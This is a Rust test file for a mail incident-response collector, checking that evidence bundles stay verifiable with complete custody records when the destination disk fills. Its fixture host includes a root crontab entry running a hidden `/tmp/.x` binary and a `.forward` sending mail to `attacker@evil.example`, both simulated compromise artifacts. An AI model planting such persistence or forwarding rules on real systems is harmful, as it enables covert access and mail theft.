//! A bundle destination that fills during a collection: a real 8 MiB tmpfs as the destination
//! and a root whose `mail.log` is larger than it (and does not compress). In every bundle
//! format the collection must end with its records — every planned path a manifest row, the
//! rows from the failure on saying the destination is full, custody saying the collection is
//! incomplete and why, `SHA256SUMS` — exit 3, and verify as intact. Mounting needs root: as
//! another user, or where mounting is refused, the tests say so and skip.

use std::ffi::CString;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::util::{self, collect_with, entries, manifest, run};

/// A tmpfs mounted for one test, unmounted when dropped (a failing assertion too).
struct Tmpfs {
    dir: PathBuf,
}

impl Tmpfs {
    fn mount(dir: &Path, size: &str) -> Option<Tmpfs> {
        // SAFETY: geteuid cannot fail and touches no memory.
        if unsafe { libc::geteuid() } != 0 {
            eprintln!("SKIPPED hostile_disk: not root, cannot mount a tmpfs as the destination");
            return None;
        }
        fs::create_dir_all(dir).unwrap();
        let out = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size},mode=0755")])
            .arg("tmpfs")
            .arg(dir)
            .output();
        match out {
            Ok(o) if o.status.success() => Some(Tmpfs {
                dir: dir.to_path_buf(),
            }),
            Ok(o) => {
                eprintln!(
                    "SKIPPED hostile_disk: mount -t tmpfs {} failed: {}",
                    dir.display(),
                    String::from_utf8_lossy(&o.stderr).trim()
                );
                None
            }
            Err(e) => {
                eprintln!("SKIPPED hostile_disk: cannot run mount: {e}");
                None
            }
        }
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let c = CString::new(self.dir.as_os_str().as_bytes()).unwrap();
        // SAFETY: a valid NUL-terminated path; MNT_DETACH also lets go of a busy mount.
        if unsafe { libc::umount2(c.as_ptr(), libc::MNT_DETACH) } != 0 {
            eprintln!(
                "WARNING: cannot unmount the test tmpfs {}: {}",
                self.dir.display(),
                std::io::Error::last_os_error()
            );
        }
    }
}

/// Bytes deflate cannot shrink.
fn noise(len: usize) -> Vec<u8> {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut v = Vec::with_capacity(len + 8);
    while v.len() < len {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        v.extend_from_slice(&x.to_le_bytes());
    }
    v.truncate(len);
    v
}

/// A host whose `mail.log` (12 MiB of noise) outgrows an 8 MiB destination, with configs, a
/// crontab and a user's `.forward` planned after it.
fn root(dir: &Path) -> PathBuf {
    let r = dir.join("root");
    for d in ["var/log", "etc/postfix", "home/bob"] {
        fs::create_dir_all(r.join(d)).unwrap();
    }
    fs::write(r.join("var/log/mail.log"), noise(12 << 20)).unwrap();
    fs::write(
        r.join("etc/postfix/main.cf"),
        "myhostname = mx1.example.org\n",
    )
    .unwrap();
    fs::write(
        r.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n",
    )
    .unwrap();
    fs::write(r.join("etc/crontab"), "* * * * * root /tmp/.x\n").unwrap();
    fs::write(r.join("home/bob/.forward"), "attacker@evil.example\n").unwrap();
    r
}

fn custody(bundle: &Path) -> Value {
    let e = entries(bundle);
    serde_json::from_slice(e.get("custody.json").expect("custody.json in the bundle"))
        .expect("custody.json parses")
}

/// Collects `root` onto a fresh 8 MiB tmpfs as `name` and checks everything a responder needs.
fn fills_up(name: &str) {
    let t = tempfile::tempdir().unwrap();
    let root = root(t.path());
    // What a collection with room records: the same paths, in the same order.
    let reference = t.path().join("reference");
    let o = collect_with(&root, &reference, &[]);
    assert_eq!(o.code, 0, "reference collect: {}", o.stderr);
    let want = manifest(&reference);
    let Some(mnt) = Tmpfs::mount(&t.path().join("mnt"), "8m") else {
        return;
    };
    // An empty name: the directory bundle is the mount point itself (its sidecar lands outside).
    let out = if name.is_empty() {
        mnt.dir.clone()
    } else {
        mnt.dir.join(name)
    };
    let o = collect_with(&root, &out, &["--case", "DISK-1"]);
    assert_eq!(
        o.code, 3,
        "collect onto a full disk must exit 3: {}{}",
        o.stdout, o.stderr
    );
    assert!(o.stderr.contains("INCOMPLETE"), "{}", o.stderr);
    assert!(o.stderr.contains("No space left on device"), "{}", o.stderr);
    // The sidecar line is still printed: the bundle is sealed.
    let shown = out.file_name().unwrap().to_str().unwrap();
    assert!(o.stdout.contains(shown), "{}", o.stdout);

    let got = manifest(&out);
    let sources = |rows: &[Value]| -> Vec<String> {
        rows.iter()
            .map(|r| r["source"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(
        sources(&got),
        sources(&want),
        "every planned path has its row"
    );
    let failed = got
        .iter()
        .position(|r| r["outcome"] == "destination_full")
        .expect("a destination_full row");
    let f = &got[failed];
    assert_eq!(f["source"], "/var/log/mail.log");
    assert!(f["stored"].is_null() && f["sha256"].is_null(), "{f}");
    assert_eq!(f["size"], 12 << 20, "the row keeps the file's metadata");
    let note = f["error"].as_str().unwrap();
    assert!(
        note.contains("destination full") && note.contains("taken back"),
        "{note}"
    );
    for (g, w) in got.iter().zip(&want).take(failed) {
        assert_eq!(g["outcome"], w["outcome"], "before the failure: {g}");
        assert_eq!(g["sha256"], w["sha256"], "before the failure: {g}");
    }
    let mut not_stored = 1;
    for (g, w) in got.iter().zip(&want).skip(failed + 1) {
        if w["outcome"] == "collected" {
            not_stored += 1;
            assert_eq!(g["outcome"], "destination_full", "{g}");
            assert!(g["stored"].is_null(), "{g}");
            let note = g["error"].as_str().unwrap();
            assert!(
                note.contains("destination full") && note.contains("files/var/log/mail.log"),
                "{note}"
            );
            assert_eq!(g["size"], w["size"], "metadata still recorded: {g}");
        } else {
            assert_eq!(g["outcome"], w["outcome"], "nothing to store anyway: {g}");
        }
    }
    for late in ["/etc/postfix/main.cf", "/etc/crontab", "/home/bob/.forward"] {
        assert_eq!(util::row(&got, late)["outcome"], "destination_full");
    }

    let bundle = entries(&out);
    assert!(
        !bundle.contains_key("files/var/log/mail.log"),
        "no partial copy of the log"
    );
    assert!(bundle.contains_key("SHA256SUMS"));
    let c = custody(&out);
    assert_eq!(c["case_id"], "DISK-1");
    let inc = &c["incomplete"];
    assert_eq!(inc["reason"], "destination_full", "{c}");
    assert_eq!(inc["entry"], "files/var/log/mail.log");
    assert_eq!(inc["rows_not_stored"], not_stored);
    assert_eq!(c["counts"]["destination_full"], not_stored);
    let first_note = c["notes"][0].as_str().unwrap();
    assert!(first_note.starts_with("INCOMPLETE"), "{first_note}");

    // The bundle is what was collected, and verify says so (exit 0), with the reason.
    let v = run(&["verify", out.to_str().unwrap()]);
    assert_eq!(v.code, 0, "verify: {}{}", v.stdout, v.stderr);
    assert!(v.stdout.contains("intact"), "{}", v.stdout);
    assert!(
        v.stderr
            .contains("the collection is incomplete (destination_full"),
        "{}",
        v.stderr
    );
    // The reserve is gone: inside a directory bundle, beside an archive.
    let leftovers: Vec<_> = walkdir::WalkDir::new(&mnt.dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().contains("mailir-reserve"))
        .map(|e| e.path().display().to_string())
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn a_full_directory_bundle_keeps_its_manifest_and_custody() {
    fills_up("bundle");
}

#[test]
fn a_full_directory_bundle_on_its_own_mount_keeps_its_manifest_and_custody() {
    fills_up("");
}

#[test]
fn a_full_tar_gz_bundle_keeps_its_manifest_and_custody() {
    fills_up("bundle.tar.gz");
}

#[test]
fn a_full_zip_bundle_keeps_its_manifest_and_custody() {
    fills_up("bundle.zip");
}

/// A destination without room even for the records is refused before anything is copied.
#[test]
fn a_destination_too_small_for_the_records_is_refused_up_front() {
    let t = tempfile::tempdir().unwrap();
    let root = root(t.path());
    let Some(mnt) = Tmpfs::mount(&t.path().join("mnt"), "64k") else {
        return;
    };
    for name in ["b.zip", "b.tar.gz", "b"] {
        let out = mnt.dir.join(name);
        let o = collect_with(&root, &out, &[]);
        assert_eq!(o.code, 2, "{name}: {}{}", o.stdout, o.stderr);
        assert!(
            o.stderr.contains("cannot reserve") && o.stderr.contains("closing records"),
            "{}",
            o.stderr
        );
        let left: Vec<_> = fs::read_dir(&mnt.dir).unwrap().collect();
        assert!(left.is_empty(), "{name}: nothing left behind: {left:?}");
    }
}
